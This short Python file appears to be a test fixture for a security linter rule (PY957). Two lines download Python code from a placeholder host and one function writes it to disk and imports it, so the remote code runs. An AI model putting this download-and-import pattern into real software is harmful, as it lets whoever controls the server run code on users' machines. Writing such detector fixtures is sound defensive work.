import importlib
import urllib.request

import requests

urllib.request.urlretrieve("https://x.example.invalid/plugin.py", "plugin.py")  # expect: PY957


def fetch_plugin():
    with open("remote_plugin.py", "w") as f:
        f.write(requests.get("https://x.example.invalid/p.py", timeout=5).text)  # expect: PY957
    return importlib.import_module("remote_plugin")
